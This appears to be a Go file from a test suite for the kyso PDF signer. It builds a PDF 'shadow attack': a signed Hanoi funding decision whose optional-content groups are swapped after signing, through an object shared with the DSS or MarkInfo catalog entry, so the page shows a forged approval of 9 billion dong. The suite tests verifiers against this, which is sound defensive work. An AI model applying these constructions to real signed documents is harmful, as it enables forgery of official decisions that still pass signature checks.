package attacksuite

import (
	"fmt"

	"github.com/kyso-vn/kyso/internal/hostilepdf"
	"github.com/kyso-vn/kyso/signer/pades"
)

// The signature, its time and its effect: attacks that keep every signed
// byte and the CMS as they are and change what the signed page means
// through what the verifier allows after a signature, or through the
// signature dictionary and its field. Each case is built on a document an
// attacker prepared before handing it to the signer (the PDF-Insecurity
// shadow model), signed by kyso's signer, and changed after.

// Text of the optional-content document (OCGPDF).
const (
	// OCGSigned is what its page shows when signed: the decision's
	// refusal, drawn in optional content group A (on).
	OCGSigned = "Y kien: KHONG DONG Y"
	// OCGForged is drawn in group B, off when signed: the approval the
	// attacker wants shown.
	OCGForged = "Y kien: DONG Y chi 9.000.000.000 dong"
)

// Object numbers of OCGPDF.
const (
	ocgCatalog = 1
	ocgA       = 5
	ocgB       = 9
	ocgProps   = 7 // the optional-content properties, shared as catalog says
)

// ocgProperties is the catalog's /OCProperties with group on shown and
// off hidden (ISO 32000-1, 8.11.4).
func ocgProperties(on, off int) string {
	return fmt.Sprintf("<< /OCGs [%d 0 R %d 0 R] /D << /Order [%d 0 R %d 0 R] /ON [%d 0 R] /OFF [%d 0 R] >> >>", ocgA, ocgB, ocgA, ocgB, on, off)
}

// OCGPDF returns a one-page decision whose answer is optional content:
// OCGSigned in group A (on), OCGForged in group B (off). Its
// /OCProperties dictionary (object 7) is also the value of the catalog
// entry share ("DSS", "MarkInfo"...), which viewers ignore there for
// want of the keys they look for: a verifier that gives an object the
// role of the first catalog entry it reaches it from sees a change of it
// as a change of that entry only.
func OCGPDF(share string) []byte {
	content := "BT /F1 16 Tf 60 780 Td (UY BAN NHAN DAN THANH PHO HA NOI) Tj ET\n" +
		"BT /F1 12 Tf 60 740 Td (QUYET DINH so 2281/QD-UBND ve cap kinh phi) Tj ET\n" +
		"/OC /oa BDC BT /F1 12 Tf 60 700 Td (" + OCGSigned + ") Tj ET EMC\n" +
		"/OC /ob BDC BT /F1 12 Tf 60 700 Td (" + OCGForged + ") Tj ET EMC"
	catalog := "<< /Type /Catalog /Pages 2 0 R /OCProperties 7 0 R >>"
	if share != "" {
		catalog = fmt.Sprintf("<< /Type /Catalog /Pages 2 0 R /OCProperties 7 0 R /%s 7 0 R >>", share)
	}
	objs := []string{
		catalog,
		"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> /Properties << /oa 5 0 R /ob 9 0 R >> >> /Contents 6 0 R >>",
		"<< /Type /OCG /Name (A) >>",
		Stream("", content),
		ocgProperties(ocgA, ocgB),
		"<< /Title (Quyet dinh 2281) /Producer (kyso attack suite) >>",
		"<< /Type /OCG /Name (B) >>",
	}
	return hostilepdf.Assemble(objs, ocgCatalog, 8, false)
}

// sigContent builds this file's attacks once, on the approval and
// certified bases of kyso's dossier (the attacks bring their own
// documents; the base says which signature kind to make).
func sigContent(p *PKI, b *Base) ([]Case, error) {
	if b.VN || b.Form || b.ShadowID != 0 {
		return nil, nil
	}
	var certify int
	switch b.Name {
	case "kyso B-T":
	case "kyso certified P=1":
		certify = 1
	case "kyso certified P=2":
		certify = 2
	default:
		return nil, nil
	}
	return collect(
		func() ([]Case, error) { return ocgShared(p, certify, "DSS") },
		func() ([]Case, error) {
			if certify == 1 {
				return nil, nil // structure changes are not allowed by P=1
			}
			return ocgShared(p, certify, "MarkInfo")
		},
	)
}

// signedBase signs doc with the official's credential at B-T, certified
// with DocMDP P=certify if not 0, and returns it as a base of its own.
func signedBase(p *PKI, name string, doc []byte, certify int, marker string) (*Base, error) {
	signed, err := p.Sign(doc, p.Official, pades.Options{Level: pades.LevelBT, Certify: certify})
	if err != nil {
		return nil, fmt.Errorf("%s: %w", name, err)
	}
	if certify != 0 {
		name += fmt.Sprintf(", certified P=%d", certify)
	}
	return &Base{Name: name, PDF: signed, Entries: 1, Certify: certify, Font: "F1", Marker: marker}, nil
}

// ocgShared: the optional-content properties are shared with the catalog
// entry share (the DSS: allowed after any signature, even DocMDP P=1; the
// structure tree's /MarkInfo: allowed by approval signatures and P=2).
// The update turns group A off and group B on: the page no longer shows
// the refusal signed but the attacker's approval. The honest control is
// the document as signed.
func ocgShared(p *PKI, certify int, share string) ([]Case, error) {
	b, err := signedBase(p, "optional content shared with /"+share, OCGPDF(share), certify, OCGSigned)
	if err != nil {
		return nil, err
	}
	control := Case{Name: "as signed / " + b.Name, Class: ClassControl, Base: b, PDF: b.PDF}
	doc, err := Append(b.PDF, Update{Objects: map[int]string{ocgProps: ocgProperties(ocgB, ocgA)}})
	cs, err := attack(ClassShadowHideReplace, b, "optional content switched through the object it shares with /"+share, doc, err,
		Evidence{Shows: OCGForged, Hides: OCGSigned, Renders: true})
	return append([]Case{control}, cs...), err
}
